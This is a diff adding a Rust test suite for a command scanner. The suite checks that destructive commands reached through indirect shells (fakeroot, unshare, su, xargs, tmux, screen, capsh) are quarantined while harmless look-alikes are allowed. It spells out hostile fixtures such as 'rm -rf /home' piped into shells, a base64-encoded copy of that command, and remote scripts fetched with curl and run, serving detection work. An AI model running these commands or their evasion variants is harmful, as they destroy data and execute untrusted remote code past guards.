@@ -1,0 +1,157 @@
+//! Shells that a script reaches by another name, families of rows put together, and honest rows beside them.
+
+use hotcell_guard::{Artifact, Limits, Pack, Verdict, scan};
+use std::time::Duration;
+
+/// Command line that must be found wherever it is executed.
+const DEED: &str = "rm -rf /home";
+
+struct Guard {
+    pack: Pack,
+    limits: Limits,
+    wrong: Vec<String>,
+}
+
+impl Guard {
+    fn new() -> Guard {
+        let pack = Pack::builtin().expect("the rules load");
+        Guard {
+            pack,
+            limits: Limits { time: Duration::from_secs(120), ..Limits::default() },
+            wrong: Vec::new(),
+        }
+    }
+
+    fn verdict(&self, file: &str, text: &str) -> (Verdict, Vec<String>) {
+        let report = scan(&self.pack, &self.limits, &Artifact::new(file, text.as_bytes()));
+        (report.verdict, report.findings.into_iter().map(|finding| finding.rule).collect())
+    }
+
+    /// A row whose verdict is this one or a worse one.
+    fn is(&mut self, file: &str, text: &str, at_least: Verdict) {
+        let (verdict, rules) = self.verdict(file, text);
+        if verdict < at_least || verdict == Verdict::Incomplete {
+            self.wrong.push(format!("{verdict:?} {rules:?} {file}: {text}"));
+        }
+    }
+
+    fn allows(&mut self, file: &str, text: &str) {
+        let (verdict, rules) = self.verdict(file, text);
+        if verdict != Verdict::Allow {
+            self.wrong.push(format!("{verdict:?} {rules:?} {file}: {text}"));
+        }
+    }
+
+    fn end(self) {
+        assert!(self.wrong.is_empty(), "{}", self.wrong.join("\n"));
+    }
+}
+
+/// Programs that start a shell when they are given no command.
+const ALONE: &[&str] = &[
+    "linux64",
+    "linux32",
+    "setarch x86_64",
+    "x86_64",
+    "fakeroot",
+    "nsenter",
+    "unshare -r",
+    "chroot /",
+    "capsh --",
+    "script -q /dev/null",
+    "su",
+    "su -",
+    "sudo -s",
+    "newgrp x",
+    "parallel",
+    "nice linux64",
+];
+
+#[test]
+fn shells_under_another_name_read_standard_input() {
+    let mut guard = Guard::new();
+    for program in ALONE {
+        for text in [
+            format!("echo '{DEED}' | {program}"),
+            format!("printf '{DEED}\n' | {program}"),
+            format!("{program} <<< '{DEED}'"),
+            format!("{program} <<E\n{DEED}\nE"),
+            format!("echo cm0gLXJmIC9ob21l | base64 -d | {program}"),
+            format!("curl -s http://example.invalid/x | {program}"),
+            format!("echo '{DEED}' > x; {program} < x"),
+        ] {
+            guard.is("a.sh", &text, Verdict::Quarantine);
+        }
+        for text in [format!("echo ls | {program}"), format!("{program} --help")] {
+            guard.allows("a.sh", &text);
+        }
+    }
+    for text in [
+        "curl -s http://example.invalid/x | unshare -r jq .",
+        "curl -s http://example.invalid/x | linux64 wc -l",
+        "echo 'rm -rf /home' | fakeroot cat",
+        "fakeroot make install",
+        "linux32 ./configure linux64",
+        "sudo -u postgres psql -c 'select 1'",
+        "su - postgres <<E\ncreatedb x\nE",
+        "chroot /mnt apt-get update",
+        "script -q -c 'make test' log.txt",
+        "tmux new -d -s work",
+        "ls *.gz | parallel gunzip",
+    ] {
+        guard.allows("a.sh", text);
+    }
+    guard.end();
+}
+
+#[test]
+fn fed_wrappers_run_what_they_are_fed() {
+    let mut guard = Guard::new();
+    for wrapper in ["env", "nice", "timeout 3", "sudo", "setsid", "env -i"] {
+        for text in [
+            format!("echo '{DEED}' | xargs {wrapper}"),
+            format!("curl -s http://example.invalid/x | xargs {wrapper}"),
+            format!("curl -s http://example.invalid/x | xargs -t {wrapper}"),
+            format!("xargs {wrapper} <<< '{DEED}'"),
+        ] {
+            guard.is("a.sh", &text, Verdict::Quarantine);
+        }
+        guard.allows("a.sh", &format!("ls *.o | xargs {wrapper} gzip"));
+    }
+    guard.end();
+}
+
+#[test]
+fn programs_that_hold_shells_execute_texts() {
+    let mut guard = Guard::new();
+    for text in [
+        format!("capsh -- -c '{DEED}'"),
+        format!("capsh --drop=cap_kill -- -c '{DEED}'"),
+        format!("capsh == -- -c '{DEED}'"),
+        format!("tmux -L x new -d '{DEED}'"),
+        format!("tmux new-session -d -s x '{DEED}'"),
+        format!("tmux neww '{DEED}'"),
+        format!("tmux split-window -h '{DEED}'"),
+        format!("tmux ls \\; run-shell '{DEED}'"),
+        format!("tmux if-shell '{DEED}' 'display x'"),
+        format!("tmux if-shell true 'run-shell \"{DEED}\"'"),
+        format!("tmux send-keys -t x '{DEED}' Enter"),
+        format!("tmux -c '{DEED}'"),
+        format!("screen -dm {DEED}"),
+        format!("screen -S x -X stuff '{DEED}'"),
+    ] {
+        guard.is("a.sh", &text, Verdict::Quarantine);
+    }
+    for text in [
+        "capsh --print",
+        "tmux attach -t x",
+        "tmux new -d -s x 'npm start'",
+        "tmux send-keys -t x 'npm test' Enter",
+        "tmux set -g mouse on",
+        "screen -ls",
+        "screen -dmS x npm start",
+    ] {
+        guard.allows("a.sh", text);
+    }
+    guard.end();
+}
